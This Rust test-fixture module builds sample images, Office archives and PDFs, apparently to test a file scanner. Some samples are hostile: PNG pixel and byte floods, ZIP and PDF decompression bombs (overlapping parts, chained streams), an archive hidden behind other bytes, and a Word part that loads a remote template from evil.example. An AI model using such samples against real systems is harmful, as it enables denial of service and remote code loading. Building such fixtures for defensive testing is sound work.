//! Files made for the tests: pictures, packed documents, PDFs, each harmless or not.
#![allow(clippy::cast_possible_truncation)]

use std::io::Write;

use flate2::Compression;
use flate2::write::{DeflateEncoder, ZlibEncoder};
use image::{ImageBuffer, ImageFormat, Rgb, RgbImage, Rgba};

/// A picture of so many pixels.
pub fn picture(width: u32, height: u32, format: ImageFormat) -> Vec<u8> {
    let picture =
        RgbImage::from_fn(width, height, |x, y| Rgb([(x % 256) as u8, (y % 256) as u8, 120]));
    let mut out = std::io::Cursor::new(Vec::new());
    picture.write_to(&mut out, format).unwrap();
    out.into_inner()
}

/// A photograph with a place, a camera and its orientation in its metadata.
pub fn photograph() -> Vec<u8> {
    let plain = picture(40, 20, ImageFormat::Jpeg);
    // TIFF: little-endian, one directory: the camera's maker and "turned a quarter".
    let maker = b"GPS 57.7586 N 16.6384 E\0";
    let mut exif = b"Exif\0\0II*\0\x08\0\0\0\x02\0".to_vec();
    exif.extend(b"\x0f\x01\x02\0");
    exif.extend((maker.len() as u32).to_le_bytes());
    exif.extend(38u32.to_le_bytes());
    exif.extend(b"\x12\x01\x03\0\x01\0\0\0\x06\0\0\0");
    exif.extend(0u32.to_le_bytes());
    exif.extend(maker);
    let mut out = plain[..2].to_vec();
    out.extend([0xff, 0xe1]);
    out.extend((exif.len() as u16 + 2).to_be_bytes());
    out.extend(exif);
    out.extend(&plain[2..]);
    out
}

/// A PNG that claims to be as large as a field.
pub fn pixel_flood() -> Vec<u8> {
    let mut png = picture(2, 2, ImageFormat::Png);
    png[16..20].copy_from_slice(&60_000u32.to_be_bytes());
    png[20..24].copy_from_slice(&60_000u32.to_be_bytes());
    let crc = crc32(&png[12..29]);
    png[29..33].copy_from_slice(&crc.to_be_bytes());
    png
}

/// A PNG whose pixels are few enough and whose bytes are not: sixteen bits a colour, four colours.
pub fn byte_flood() -> Vec<u8> {
    let mut png = deep_picture(2);
    png[16..20].copy_from_slice(&8_000u32.to_be_bytes());
    png[20..24].copy_from_slice(&8_000u32.to_be_bytes());
    let crc = crc32(&png[12..29]);
    png[29..33].copy_from_slice(&crc.to_be_bytes());
    png
}

/// A square PNG of sixteen bits a colour and four colours.
pub fn deep_picture(side: u32) -> Vec<u8> {
    let picture: ImageBuffer<Rgba<u16>, Vec<u16>> =
        ImageBuffer::from_pixel(side, side, Rgba([0x1234, 0x5678, 0x9abc, 0xffff]));
    let mut out = std::io::Cursor::new(Vec::new());
    picture.write_to(&mut out, ImageFormat::Png).unwrap();
    out.into_inner()
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = flate2::Crc::new();
    crc.update(bytes);
    crc.sum()
}

/// A packed file with these parts.
pub fn packed(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut out, mut list) = (Vec::new(), Vec::new());
    for (name, bytes) in parts {
        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
        encoder.write_all(bytes).unwrap();
        let body = encoder.finish().unwrap();
        let start = out.len() as u32;
        let mut common = Vec::new();
        common.extend(20u16.to_le_bytes());
        common.extend(0u16.to_le_bytes());
        common.extend(8u16.to_le_bytes());
        common.extend([0; 4]);
        common.extend(crc32(bytes).to_le_bytes());
        common.extend((body.len() as u32).to_le_bytes());
        common.extend((bytes.len() as u32).to_le_bytes());
        common.extend((name.len() as u16).to_le_bytes());
        common.extend(0u16.to_le_bytes());
        out.extend(b"PK\x03\x04");
        out.extend(&common);
        out.extend(name.as_bytes());
        out.extend(body);
        list.extend(b"PK\x01\x02\x14\0");
        list.extend(&common);
        list.extend([0; 10]);
        list.extend(start.to_le_bytes());
        list.extend(name.as_bytes());
    }
    let (count, start) = (parts.len() as u16, out.len() as u32);
    out.extend(&list);
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend(count.to_le_bytes());
    out.extend(count.to_le_bytes());
    out.extend((list.len() as u32).to_le_bytes());
    out.extend(start.to_le_bytes());
    out.extend([0; 2]);
    out
}

/// A packed file behind something else, whose list fits all the same.
pub fn behind(head: &[u8], archive: &[u8]) -> Vec<u8> {
    let mut out = [head, archive].concat();
    let end = out.len() - 22;
    let mut moved = |at: usize| {
        let place: [u8; 4] = out[at..at + 4].try_into().unwrap();
        let place = u32::from_le_bytes(place) + head.len() as u32;
        out[at..at + 4].copy_from_slice(&place.to_le_bytes());
        place as usize
    };
    let mut entry = moved(end + 16);
    while entry < end {
        moved(entry + 42);
        // Names of the samples are shorter than 256 bytes, and nothing follows them.
        entry += 46 + usize::from(archive[entry + 28 - head.len()]);
    }
    out
}

/// Bytes that do not become fewer when they are packed.
pub fn noise(size: usize) -> Vec<u8> {
    let mut seed = 1u32;
    let mut byte = || {
        seed = seed.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (seed >> 24) as u8
    };
    (0..size).map(|_| byte()).collect()
}

const TYPES: &[u8] = b"<?xml version=\"1.0\"?><Types><Override PartName=\"/word/document.xml\" \
    ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
const LINKS: &[u8] = b"<?xml version=\"1.0\"?><Relationships><Relationship Id=\"r1\" \
    Type=\"http://schemas.example/officeDocument/relationships/hyperlink\" \
    Target=\"https://vastervik.example\" TargetMode=\"External\"/></Relationships>";

/// An Excel workbook, with further parts.
pub fn sheet(more: &[(&str, &[u8])]) -> Vec<u8> {
    let parts: [(&str, &[u8]); 3] = [
        ("[Content_Types].xml", b"<Types/>"),
        ("_rels/.rels", b"<Relationships/>"),
        ("xl/workbook.xml", b"<workbook/>"),
    ];
    packed(&[&parts[..], more].concat())
}

/// Word documents in the orders in which Word and LibreOffice write their parts, of some pages.
pub fn long_words() -> [Vec<u8>; 2] {
    let mut seed = 1u32;
    let mut letter = || {
        seed = seed.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        char::from(b'a' + (seed >> 24) as u8 % 26)
    };
    let pages: String = (0..30_000).map(|_| letter()).collect();
    let text = format!("<w:document>{pages}</w:document>");
    let (types, rels) = (("[Content_Types].xml", TYPES), ("_rels/.rels", &b"<Relationships/>"[..]));
    let document = ("word/document.xml", text.as_bytes());
    let links = ("word/_rels/document.xml.rels", LINKS);
    let about = ("docProps/app.xml", &b"<Properties/>"[..]);
    [
        packed(&[types, rels, document, links, about]),
        packed(&[rels, ("docProps/core.xml", b"<cp/>"), about, links, document, types]),
    ]
}

/// A Word document, with further parts.
pub fn word(more: &[(&str, &[u8])]) -> Vec<u8> {
    let parts: [(&str, &[u8]); 4] = [
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", "<w:document>Språkkafé</w:document>".as_bytes()),
        ("word/_rels/document.xml.rels", LINKS),
    ];
    // What replaces a part stands in its place: the type is told by what comes first.
    let given = |name: &str| more.iter().find(|(known, _)| *known == name).map(|(_, bytes)| *bytes);
    let kept = parts.map(|(name, bytes)| (name, given(name).unwrap_or(bytes)));
    let further: Vec<(&str, &[u8])> =
        more.iter().filter(|(name, _)| kept.iter().all(|(k, _)| k != name)).copied().collect();
    packed(&[&kept[..], &further].concat())
}

/// A document that fetches its template from somewhere when it is opened.
pub const TEMPLATE: &[u8] = b"<Relationships><Relationship Id=\"r1\" \
    Type=\"http://schemas.example/officeDocument/relationships/attachedTemplate\" \
    Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";

/// A PDF whose objects are packed, as newer writers do.
pub fn packed_pdf(objects: &str, filter: &str) -> Vec<u8> {
    stream_pdf(
        &format!("/Type /ObjStm /N 1 /First 4 /Filter {filter}"),
        &deflated(objects.as_bytes()),
    )
}

/// Bytes, packed as streams of a PDF are.
pub fn deflated(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// A PDF with one stream, which has this in its dictionary.
pub fn stream_pdf(dictionary: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("%PDF-1.7\n5 0 obj\n<< {dictionary} /Length {} >>\nstream\n", body.len());
    [head.as_bytes(), body, b"\nendstream\nendobj\n%%EOF\n"].concat()
}

/// A packed stream of `size` bytes that comes to nothing: empty blocks, the last one at its end.
pub fn empty_blocks(size: usize) -> Vec<u8> {
    let mut out = b"\0\0\0\xff\xff".repeat(size / 5);
    out.extend(b"\x01\0\0\xff\xff");
    out
}

/// A document whose list names one packed part as often as `times`.
pub fn shared_part(size: usize, times: u16) -> Vec<u8> {
    let mut out = word(&[]);
    let end = out.len() - 22;
    let old = u32::from_le_bytes(out[end + 16..end + 20].try_into().unwrap()) as usize;
    let mut list = out.split_off(old);
    let mut record = list.split_off(end - old);
    let body = empty_blocks(size);
    let part = out.len() as u32;
    let head = |size: usize| {
        let mut head = b"\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0".to_vec();
        head.extend((size as u32).to_le_bytes());
        head.extend([0; 4]);
        head.extend(1u16.to_le_bytes());
        head.extend(0u16.to_le_bytes());
        head
    };
    out.extend([&b"PK\x03\x04"[..], &head(body.len()), b"x", &body].concat());
    for _ in 0..times {
        list.extend([&b"PK\x01\x02\x14\0"[..], &head(body.len()), &[0; 10]].concat());
        list.extend(part.to_le_bytes());
        list.push(b'x');
    }
    let count = u16::from_le_bytes(record[8..10].try_into().unwrap()) + times;
    record[8..10].copy_from_slice(&count.to_le_bytes());
    record[10..12].copy_from_slice(&count.to_le_bytes());
    record[12..16].copy_from_slice(&(list.len() as u32).to_le_bytes());
    record[16..20].copy_from_slice(&(out.len() as u32).to_le_bytes());
    [out, list, record].concat()
}

/// A PDF with as many packed streams as `times`, each of which begins within the one before and
/// has the same end of `size` bytes.
pub fn chained_pdf(size: usize, times: usize) -> Vec<u8> {
    let head = b"\n6 0 obj\n<< /N 1 /First 4 /Filter /FlateDecode >>\nstream\n\x78\x01";
    let mut out = b"%PDF-1.7".to_vec();
    for n in 0..times {
        if n > 0 {
            // A block of the stream before, which holds what begins the next.
            let length = head.len() as u16;
            out.push(0);
            out.extend(length.to_le_bytes());
            out.extend((!length).to_le_bytes());
        }
        out.extend(head);
    }
    out.extend(b"\0\x01\0\xfe\xff ");
    out.extend(empty_blocks(size));
    out
}
